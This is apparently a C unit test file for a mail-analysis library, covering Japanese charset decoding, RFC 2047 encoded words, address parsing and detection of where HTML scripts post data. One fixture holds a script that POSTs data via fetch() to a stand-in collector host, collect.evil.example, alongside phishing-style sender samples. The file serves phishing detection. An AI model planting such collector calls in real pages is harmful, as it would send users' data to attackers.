/* test_mail_text.c - charsets, RFC 2047 encoded words, address lists and
 * what HTML scripts post to. */
#include "core/arena.h"
#include "core/buf.h"
#include "core/utf8.h"
#include "mail/address.h"
#include "mail/charset.h"
#include "mail/links.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

static const char *decode(buf *b, const char *bytes, size_t n, const char *label, charset_result *res) {
    buf_clear(b);
    charset_decode(bytes, n, label, b, res);
    return buf_cstr(b);
}

static void iso2022jp_with_nec_characters(void **state) {
    (void)state;
    buf b = {0};
    charset_result res;
    /* "①医療費" as Outlook writes it: ESC $ B, 0x2D21 (NEC row 13), then JIS X 0208 */
    static const char jis[] = "\x1b$B-!0eNEHq\x1b(B";
    assert_string_equal(decode(&b, jis, sizeof jis - 1, "iso-2022-jp", &res), "①医療費");
    assert_false(res.label_malformed);
    assert_false(res.label_wrong);
    assert_false(res.lossy);
    /* half-width katakana after ESC ( I: "ｱ" */
    static const char kana[] = "\x1b(I1\x1b(B";
    assert_string_equal(decode(&b, kana, sizeof kana - 1, "ISO-2022-JP", &res), "ｱ");
    buf_free(&b);
}

static void labels_lie_or_are_broken(void **state) {
    (void)state;
    buf b = {0};
    charset_result res;
    /* the label of ../shared/data/mail/sample-423.eml: junk around a real name */
    assert_string_equal(decode(&b, "plain text", 10, "_iso-2022-jp$ESC", &res), "plain text");
    assert_true(res.label_malformed);
    assert_string_equal(res.used, "ISO-2022-JP");
    /* UTF-8 bytes labelled ISO-2022-JP: the label is wrong, the text is still read */
    assert_string_equal(decode(&b, "医療", strlen("医療"), "iso-2022-jp", &res), "医療");
    assert_true(res.label_wrong);
    assert_string_equal(res.used, "UTF-8");
    /* Shift_JIS bytes labelled us-ascii */
    static const char sjis[] = "\x88\xe3\x97\xc3\x94\xef"; /* 医療費 */
    assert_string_equal(decode(&b, sjis, 6, "us-ascii", &res), "医療費");
    assert_true(res.label_wrong);
    /* a name iconv does not know at all */
    assert_string_equal(decode(&b, "abc", 3, "x-no-such-charset", &res), "abc");
    assert_true(res.label_malformed);
    buf_free(&b);
}

static void sniffing_without_label(void **state) {
    (void)state;
    buf b = {0};
    charset_result res;
    static const char euc[] = "\xb0\xe5\xce\xc5\xc8\xf1\xc4\xcc\xc3\xce"; /* 医療費通知 in EUC-JP */
    assert_string_equal(decode(&b, euc, sizeof euc - 1, NULL, &res), "医療費通知");
    assert_string_equal(res.used, "EUC-JP-MS");
    static const char sjis[] = "\x82\xa8\x92\x6d\x82\xe7\x82\xb9"; /* お知らせ in Shift_JIS */
    assert_string_equal(decode(&b, sjis, sizeof sjis - 1, NULL, &res), "お知らせ");
    assert_string_equal(res.used, "CP932");
    static const char jis[] = "\x1b$B$*CN$i$;\x1b(B"; /* お知らせ in ISO-2022-JP */
    assert_string_equal(decode(&b, jis, sizeof jis - 1, "", &res), "お知らせ");
    /* bytes that are nothing: replaced, and said so */
    decode(&b, "\xff\xfe\xff", 3, "utf-8", &res);
    assert_true(res.lossy || res.label_wrong);
    buf_free(&b);
}

static const char *rfc2047(buf *b, const char *raw) {
    buf_clear(b);
    rfc2047_decode(sv_cstr(raw), b);
    return buf_cstr(b);
}

static void encoded_words(void **state) {
    (void)state;
    buf b = {0};
    /* 【医療費通知】 as a Japanese mailer encodes it */
    assert_string_equal(rfc2047(&b, "=?ISO-2022-JP?B?GyRCIVowZU5FSHFETENOIVsbKEI=?="), "【医療費通知】");
    /* a UTF-8 character split across two adjacent words; the space between them goes */
    assert_string_equal(rfc2047(&b, "=?UTF-8?B?5Yy7?= =?UTF-8?B?55mC?="), "医療");
    assert_string_equal(rfc2047(&b, "=?utf-8?B?4g==?=\r\n =?utf-8?B?gKI=?="), "\xe2\x80\xa2");
    /* Q encoding, underscores are spaces; text around the word stays */
    assert_string_equal(rfc2047(&b, "Re: =?iso-8859-1?Q?caf=E9_menu?= today"), "Re: café menu today");
    /* raw Shift_JIS in a header (no encoded word at all) */
    assert_string_equal(rfc2047(&b, "\x88\xe3\x97\xc3"), "医療");
    /* broken words are left as text */
    assert_string_equal(rfc2047(&b, "=?UTF-8?X?abc?= and =?"), "=?UTF-8?X?abc?= and =?");
    buf_free(&b);
}

static void address_lists(void **state) {
    (void)state;
    arena a;
    arena_init(&a, 1024);
    mail_address out[8];
    size_t n = address_parse_list(SV("\"Payment\"<starlink@Chetta.IT>"), &a, out, 8);
    assert_int_equal(n, 1);
    assert_string_equal(out[0].name, "Payment");
    assert_string_equal(out[0].addr, "starlink@chetta.it");
    assert_string_equal(out[0].domain, "chetta.it");

    n = address_parse_list(SV("=?ISO-2022-JP?B?GyRCOHxAOE8rRi8bKEI=?= <a@b.go.jp>, \"Smith, John\" <js@x.example>,"
                              " bare@y.example (Bare Name)"),
                           &a, out, 8);
    assert_int_equal(n, 3);
    assert_string_equal(out[0].name, "厚生労働");
    assert_string_equal(out[1].name, "Smith, John");
    assert_string_equal(out[1].addr, "js@x.example");
    assert_string_equal(out[2].addr, "bare@y.example");
    assert_string_equal(out[2].name, "Bare Name");

    /* a group with no members is no address */
    assert_int_equal(address_parse_list(SV("Undisclosed recipients:;"), &a, out, 8), 0);
    /* a group with members gives the members */
    n = address_parse_list(SV("team: a@x.example, b@x.example;"), &a, out, 8);
    assert_int_equal(n, 2);
    assert_string_equal(out[1].addr, "b@x.example");
    /* bounded: never more than asked for */
    assert_int_equal(address_parse_list(SV("a@x, b@x, c@x, d@x"), &a, out, 2), 2);
    /* junk does not crash and gives no address with an '@' */
    n = address_parse_list(SV("<<<>>>(((\"\\"), &a, out, 8);
    for (size_t i = 0; i < n; i++) assert_null(strchr(out[i].addr, '@'));
    /* a long internationalised address is cut at a character boundary */
    buf raw = {0};
    buf_putc(&raw, '<');
    for (int i = 0; i < 200; i++) buf_puts(&raw, "あ"); /* 600 bytes */
    buf_puts(&raw, "@x.example>");
    n = address_parse_list(sv_make(raw.p, raw.len), &a, out, 8);
    assert_int_equal(n, 1);
    assert_true(strlen(out[0].addr) <= 512 && strlen(out[0].addr) >= 510);
    assert_true(utf8_valid(out[0].addr, strlen(out[0].addr)));
    buf_free(&raw);
    arena_free(&a);
}

/* The host a script posts to; a script full of URLs without a host costs
 * memory in proportion to its size, not to its size times the URLs' length
 * (each candidate used to be copied to the end of the script). */
static void script_post_target(void **state) {
    (void)state;
    arena a;
    arena_init(&a, 4096);
    html_facts f;
    const char *good = "<html><script>fetch(\"https://collect.evil.example/p?x=1\", {method: 'POST'})</script></html>";
    html_inspect(good, strlen(good), &a, NULL, NULL, 0, &f);
    assert_string_equal(f.form_target, "collect.evil.example");
    buf html = {0};
    buf_puts(&html, "<html><script>");
    for (int i = 0; i < 2000; i++) buf_puts(&html, "fetch(http:///");
    buf_puts(&html, "</script></html>");
    arena_free(&a);
    arena_init(&a, 4096);
    html_inspect(html.p, html.len, &a, NULL, NULL, 0, &f);
    assert_null(f.form_target);
    assert_true(a.used < (4u << 20));
    buf_free(&html);
    arena_free(&a);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(iso2022jp_with_nec_characters), cmocka_unit_test(labels_lie_or_are_broken),
        cmocka_unit_test(sniffing_without_label),        cmocka_unit_test(encoded_words),
        cmocka_unit_test(address_lists),                 cmocka_unit_test(script_post_target),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
